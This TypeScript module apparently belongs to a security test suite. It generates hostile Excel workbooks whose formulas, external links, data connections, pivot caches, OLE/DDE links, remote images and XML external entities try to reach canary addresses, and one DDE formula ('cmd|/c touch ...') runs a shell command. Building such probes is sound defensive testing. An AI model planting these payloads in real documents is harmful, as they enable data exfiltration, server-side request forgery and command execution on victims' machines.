import { zipFile } from '../../fixtures/office/zip-file.js';
import { escaped, type HostileDocument, type HostileDocuments } from './document.js';
import { link, type Part, prefixes, relationships, types } from './ooxml.js';
import { entities } from './word.js';

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

/** Workbooks of Excel. */
export const sheetDocuments: HostileDocuments = {
  'formulas that send requests': (canaries) =>
    xlsx({
      formulas: ['txt', 'csv', 'xml', 'ods'].flatMap((extension) =>
        canaries
          .all('xlsx-formula', extension)
          .flatMap((it) => [
            `WEBSERVICE("${it}")`,
            `_xlfn.WEBSERVICE("${it}")`,
            `_xlfn.FILTERXML(_xlfn.WEBSERVICE("${it}"),"//a")`,
            `INDIRECT("'${it}'#$Sheet1.A1")`,
            `INDIRECT("'[${it}]Sheet1'!A1")`,
            `'${it}'#$Sheet1.A1`,
            `'[${it}]Sheet1'!A1`,
            `HYPERLINK("${it}","a link")`,
            `DDE("soffice","${it}","Sheet1.A1")`,
            `soffice|'${it}'!A1`,
            `cmd|'/c touch ${canaries.trace}'!A1`,
          ]),
      ),
    }),
  'links to other workbooks': (canaries) => {
    const addresses = ['xlsx', 'csv', 'ods', 'html'].flatMap((it) => canaries.all('xlsx-link', it));
    const parts = addresses.flatMap((it, at): readonly (readonly [string, Part])[] => [
      [
        `xl/externalLinks/externalLink${at}.xml`,
        {
          type: `${SHEET}.externalLink+xml`,
          text: `<externalLink ${MAIN} ${prefixes}><externalBook r:id="l0"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
        },
      ],
      [
        `xl/externalLinks/_rels/externalLink${at}.xml.rels`,
        { text: relationships([link('l0', 'externalLinkPath', it)]) },
      ],
    ]);
    return xlsx({
      formulas: addresses.map((_, at) => `[${at + 1}]Sheet1!A1`),
      workbook: `<externalReferences>${addresses.map((_, at) => `<externalReference r:id="e${at}"/>`).join('')}</externalReferences>`,
      links: addresses.map((_, at) =>
        link(`e${at}`, 'externalLink', `externalLinks/externalLink${at}.xml`, 'Internal'),
      ),
      parts: Object.fromEntries(parts),
    });
  },
  'links by DDE and OLE': (canaries) =>
    xlsx({
      formulas: ['[1]!a', "[1]!''''", '[2]!a'],
      workbook: '<externalReferences><externalReference r:id="e0"/><externalReference r:id="e1"/></externalReferences>',
      links: [0, 1].map((at) => link(`e${at}`, 'externalLink', `externalLinks/externalLink${at}.xml`, 'Internal')),
      parts: {
        'xl/externalLinks/externalLink0.xml': {
          type: `${SHEET}.externalLink+xml`,
          text: `<externalLink ${MAIN} ${prefixes}><ddeLink ddeService="soffice" ddeTopic="${escaped(canaries.files('csv')[2] ?? '')}"><ddeItems><ddeItem name="a" advise="1"/></ddeItems></ddeLink></externalLink>`,
        },
        'xl/externalLinks/externalLink1.xml': {
          type: `${SHEET}.externalLink+xml`,
          text: `<externalLink ${MAIN} ${prefixes}><oleLink r:id="l0" progId="Excel.Sheet.12"><oleItems><oleItem name="a" advise="1" icon="0"/></oleItems></oleLink></externalLink>`,
        },
        'xl/externalLinks/_rels/externalLink1.xml.rels': {
          text: relationships([link('l0', 'oleObject', canaries.outside('xlsx-ole', 'xlsx')[0] ?? '')]),
        },
      },
    }),
  'connections and queries': (canaries) => {
    const addresses = ['html', 'csv', 'iqy'].flatMap((it) => canaries.all('xlsx-query', it));
    return xlsx({
      links: [link('c', 'connections', 'connections.xml', 'Internal')],
      sheetLinks: addresses.map((_, at) =>
        link(`q${at}`, 'queryTable', `../queryTables/queryTable${at}.xml`, 'Internal'),
      ),
      parts: {
        'xl/connections.xml': {
          type: `${SHEET}.connections+xml`,
          text: `<connections ${MAIN}>${addresses.map((it, at) => `<connection id="${at + 1}" name="c${at}" type="4" refreshedVersion="6" refreshOnLoad="1" background="0"><webPr sourceData="1" url="${escaped(it)}" htmlTables="1"/></connection><connection id="${at + 1001}" name="t${at}" type="6" refreshOnLoad="1"><textPr sourceFile="${escaped(it)}" prompt="0"/></connection>`).join('')}</connections>`,
        },
        ...Object.fromEntries(
          addresses.map((_, at) => [
            `xl/queryTables/queryTable${at}.xml`,
            {
              type: `${SHEET}.queryTable+xml`,
              text: `<queryTable ${MAIN} name="q${at}" connectionId="${at + 1}" refreshOnLoad="1" autoFormatId="16"/>`,
            },
          ]),
        ),
      },
    });
  },
  'external images': (canaries) => {
    const addresses = canaries.all('xlsx-picture', 'png');
    const drawing = 'http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing';
    return xlsx({
      sheet:
        '<drawing r:id="d"/><legacyDrawing r:id="v"/><legacyDrawingHF r:id="v"/><picture r:id="p"/><oleObjects><oleObject progId="Word.Document.12" link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025" r:id="o"/></oleObjects>',
      sheetLinks: [
        link('d', 'drawing', '../drawings/drawing1.xml', 'Internal'),
        link('v', 'vmlDrawing', '../drawings/vml1.vml', 'Internal'),
        ...['p', 'o'].map((id) => link(id, id === 'p' ? 'image' : 'oleObject', addresses[0] ?? '')),
      ],
      parts: {
        'xl/drawings/drawing1.xml': {
          type: 'application/vnd.openxmlformats-officedocument.drawing+xml',
          text: `<xdr:wsDr xmlns:xdr="${drawing}" ${prefixes}>${addresses
            .map(
              (_, at) =>
                `<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>${at * 3}</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>${at * 3 + 2}</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="${at + 2}" name="p"><a:hlinkClick r:id="l${at}"/></xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="l${at}"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>`,
            )
            .join('')}</xdr:wsDr>`,
        },
        'xl/drawings/_rels/drawing1.xml.rels': {
          text: relationships(addresses.map((it, at) => link(`l${at}`, 'image', it))),
        },
        'xl/drawings/vml1.vml': {
          text: `<xml ${prefixes} xmlns:x="urn:schemas-microsoft-com:office:excel">${addresses.map((it, at) => `<v:shape id="CH${at}" type="#_x0000_t75" style="position:absolute;width:90pt;height:90pt"><v:imagedata o:relid="l${at}" r:id="l${at}" src="${escaped(it)}"/></v:shape>`).join('')}</xml>`,
        },
        'xl/drawings/_rels/vml1.vml.rels': {
          text: relationships(addresses.map((it, at) => link(`l${at}`, 'image', it))),
        },
      },
    });
  },
  'external parts': (canaries) => {
    const addresses = ['xml', 'csv'].flatMap((it) => canaries.all('xlsx-part', it));
    const kinds = [
      'worksheet',
      'sharedStrings',
      'styles',
      'theme',
      'connections',
      'externalLink',
      'pivotCacheDefinition',
      'vbaProject',
      'customXml',
      'volatileDependencies',
    ];
    return xlsx({ links: addresses.flatMap((it, at) => kinds.map((kind) => link(`${kind}${at}`, kind, it))) });
  },
  'a pivot table of another workbook': (canaries) =>
    xlsx({
      workbook: '<pivotCaches><pivotCache cacheId="1" r:id="pc"/></pivotCaches>',
      links: [link('pc', 'pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml', 'Internal')],
      parts: {
        'xl/pivotCache/pivotCacheDefinition1.xml': {
          type: `${SHEET}.pivotCacheDefinition+xml`,
          text: `<pivotCacheDefinition ${MAIN} ${prefixes} refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="Sheet1" r:id="l0"/></cacheSource><cacheFields count="1"><cacheField name="a"/></cacheFields></pivotCacheDefinition>`,
        },
        'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': {
          text: relationships([link('l0', 'externalLinkPath', canaries.outside('xlsx-pivot', 'xlsx')[0] ?? '')]),
        },
      },
    }),
  'external entities': (canaries) =>
    xlsx({
      formulas: ['1'],
      prologue: entities(canaries, 'xlsx-entity'),
      cell: '<c r="B1" t="inlineStr"><is><t>&e0;&e1;&e2;</t></is></c>',
    }),
};

interface Xlsx {
  readonly formulas?: readonly string[];
  readonly workbook?: string;
  /** XML after the cells of the worksheet. */
  readonly sheet?: string;
  readonly cell?: string;
  readonly links?: readonly string[];
  readonly sheetLinks?: readonly string[];
  readonly parts?: Readonly<Record<string, Part>>;
  readonly prologue?: string;
}

function xlsx({
  formulas = [],
  workbook = '',
  sheet = '',
  cell = '',
  links = [],
  sheetLinks = [],
  parts = {},
  prologue = '',
}: Xlsx): HostileDocument {
  const rows = formulas.map(
    (it, at) => `<row r="${at + 1}"><c r="A${at + 1}"><f>${escaped(it)}</f></c>${at === 0 ? cell : ''}</row>`,
  );
  const all: Readonly<Record<string, Part>> = {
    'xl/workbook.xml': {
      type: `${SHEET}.sheet.main+xml`,
      text: `<workbook ${MAIN} ${prefixes}><workbookPr updateLinks="always"/><sheets><sheet name="Sheet1" sheetId="1" r:id="s1"/></sheets>${workbook}<calcPr fullCalcOnLoad="1"/></workbook>`,
    },
    'xl/worksheets/sheet1.xml': {
      type: `${SHEET}.worksheet+xml`,
      text: `${prologue}<worksheet ${MAIN} ${prefixes}><sheetData>${rows.join('')}<row r="999"><c r="A999" t="inlineStr"><is><t>text</t></is></c></row></sheetData>${sheet}</worksheet>`,
    },
    ...parts,
  };
  return {
    extension: 'xlsx',
    bytes: zipFile({
      '[Content_Types].xml': types(all),
      '_rels/.rels': relationships([link('r1', 'officeDocument', 'xl/workbook.xml', 'Internal')]),
      'xl/_rels/workbook.xml.rels': relationships([
        ...links,
        link('s1', 'worksheet', 'worksheets/sheet1.xml', 'Internal'),
      ]),
      'xl/worksheets/_rels/sheet1.xml.rels': relationships(sheetLinks),
      ...Object.fromEntries(Object.entries(all).map(([name, { text }]) => [name, text])),
    }),
  };
}
